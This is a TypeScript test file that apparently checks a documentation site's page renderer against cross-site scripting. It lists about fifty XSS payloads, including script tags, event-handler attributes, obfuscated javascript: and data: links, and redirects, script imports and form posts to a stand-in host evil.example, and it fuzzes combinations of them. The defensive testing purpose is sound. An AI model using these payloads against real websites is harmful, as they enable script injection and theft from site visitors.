import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readElements } from '../site/hostile-text.fixture.ts';
import { readPage } from './page.ts';
import { render } from './render.fixture.ts';

const page = (typed: string): string => `## Why [#why]\n\n${typed}\n`;

/** Attributes that elements of a page may have; components are written by their names, in small letters. */
const HARMLESS: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    [
      'p',
      'em',
      'strong',
      'del',
      'code',
      'pre',
      'br',
      'ul',
      'ol',
      'li',
      'blockquote',
      'hr',
      'h2',
      'h3',
      'h4',
      'h5',
      'h6',
      'table',
      'thead',
      'tbody',
      'tr',
    ].map((name) => [name, []]),
  ),
  ol: ['start'],
  code: ['class'],
  a: ['href', 'title'],
  div: ['class', 'role', 'tabindex', 'aria-labelledby'],
  th: ['scope', 'class'],
  td: ['class'],
  section: ['id'],
  topiclink: ['to', 'section'],
  term: ['id'],
  setting: ['id'],
  box: ['kind'],
  picture: ['src', 'alt'],
};

/** What a browser would read that no page may hold: an element, an attribute or an address of another kind. */
function harmIn(html: string): string[] {
  return readElements(html).flatMap(({ name, attributes }) => [
    ...(name in HARMLESS ? [] : [`<${name}>`]),
    ...Object.keys(attributes)
      .filter((key) => HARMLESS[name]?.includes(key) !== true)
      .map((key) => `${name} ${key}`),
    ...(name === 'a' && !/^(https:|mailto:|tel:|#)/.test(attributes['href'] ?? '')
      ? [`href ${attributes['href'] ?? ''}`]
      : []),
    ...(name === 'picture' && !/^[^:]+\.(png|jpe?g|webp|avif)$/.test(attributes['src'] ?? '')
      ? [`src ${attributes['src'] ?? ''}`]
      : []),
  ]);
}

/** Attacks that reach a page as words, or are refused; what it is to be stands first. */
const ATTACKS: readonly (readonly [is: 'refused' | 'words', typed: string])[] = [
  ['refused', '<script>alert(1)</script>'],
  ['refused', '<SCRIPT SRC=https://evil.example></SCRIPT>'],
  ['refused', '<img src=x onerror=alert(1)>'],
  ['refused', '<svg onload=alert(1)>'],
  ['refused', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['refused', '<math><mi xlink:href="data:x,<script>"></mi></math>'],
  ['refused', '<details open ontoggle=alert(1)>'],
  ['refused', '<a href="java&#115;cript:alert(1)">x</a>'],
  ['refused', '<a\nhref="javascript:alert(1)">x</a>'],
  ['refused', '<iframe srcdoc="&lt;script&gt;">'],
  ['refused', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['refused', '<base href="https://evil.example/">'],
  ['refused', '<style>@import "https://evil.example"</style>'],
  ['refused', '<form action="https://evil.example"><input name=q></form>'],
  ['refused', '<Setting id="rings" onclick="alert(1)" />'],
  ['refused', '<Setting id="rings" {...evil()} />'],
  ['refused', '{alert(1)}'],
  ['refused', '{(() => {\nalert(1)\n})()}'],
  ['refused', '{/* */ alert(1) /* */}'],
  ['refused', 'import "https://evil.example/x.js"'],
  ['refused', 'export default function X() {}'],
  ['refused', '[x](javascript:alert(1))'],
  ['refused', '[x](JAVASCRIPT:alert(1))'],
  ['refused', '[x](java&#115;cript:alert(1))'],
  ['refused', '[x](java&Tab;script:alert(1))'],
  ['refused', '[x](&#x6A;avascript:alert(1))'],
  ['refused', '[x](\\javascript:alert(1))'],
  ['refused', '[x](vbscript:x)'],
  ['refused', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
  ['refused', '[x](blob:https://example.com/1)'],
  ['refused', '[x](//evil.example)'],
  ['refused', '[x](https:evil.example)'],
  ['refused', '[x]\n\n[x]: javascript:alert(1)'],
  ['refused', '[x](tel:112"onclick=alert(1))'],
  ['refused', '![x](javascript:alert(1))'],
  ['refused', '![x](data:image/svg+xml,<svg/onload=alert(1)>)'],
  ['refused', '![x](data:image/png;base64,AA.png)'],
  ['refused', '![x](//evil.example/x.png)'],
  ['refused', '![x](/etc/x.png)'],
  ['refused', '![x](x.svg)'],
  ['refused', '> [!<script>]\n> x'],
  ['words', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['words', '\\<script>alert(1)\\</script>'],
  ['words', '`<script>alert(1)</script>`'],
  ['words', '```html\n<script>alert(1)</script>\n```'],
  ['words', '&#60;img src=x onerror=alert(1)&#62;'],
  ['words', '&#123;alert(1)&#125; \\{alert(1)\\}'],
  ['words', '<script'],
  ['words', '<!-- --><!-- <script>alert(1)</script> --> x'],
  ['words', '[x](https://example.com/"onmouseover=alert(1))'],
  ['words', '[x](https://example.com "\\" onmouseover=alert(1)")'],
  ['words', '![" onerror="alert(1)](x.png)'],
  ['words', '```" onload="x\ncode\n```'],
  ['words', '| \\<b> | `{x}` |\n| --- | --- |\n| &lt;i&gt; | &#123;y} |'],
];

describe('an editor’s file cannot attack a reader', () => {
  it.each(ATTACKS)('%s: %s', (is, typed) => {
    if (is === 'refused') {
      expect(readPage(page(typed)).problems).not.toEqual([]);
      expect(() => render(page(typed))).toThrow();
    } else {
      expect(readPage(page(typed)).problems).toEqual([]);
      expect(harmIn(render(page(typed)))).toEqual([]);
    }
  });

  it('whatever it holds', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS.map(([, typed]) => typed)),
      fc.constantFrom(
        '<',
        '>',
        '{',
        '}',
        '"',
        '\\',
        '`',
        '*',
        '**',
        '\n',
        '\n\n',
        '](',
        '[',
        ')',
        '<!--',
        '-->',
        '> ',
        '- ',
        '| ',
        'javascript:',
        'x',
        ' ',
      ),
      fc.constantFrom('\uFDD0', '\uFDD1', '\uFDD2', '\uFDD3', '\uFDD5', '&#60;', '&#xFDD1;', '&#xFDD2;', '&#xFDD0;'),
    );
    let rendered = 0;
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const typed = page(pieces.join(''));
        if (readPage(typed).problems.length > 0) {
          expect(() => render(typed)).toThrow();
          return;
        }
        rendered += 1;
        expect(harmIn(render(typed))).toEqual([]);
      }),
      { numRuns: 3000 },
    );
    // Otherwise nothing would have been tried.
    expect(rendered).toBeGreaterThan(100);
  });
});
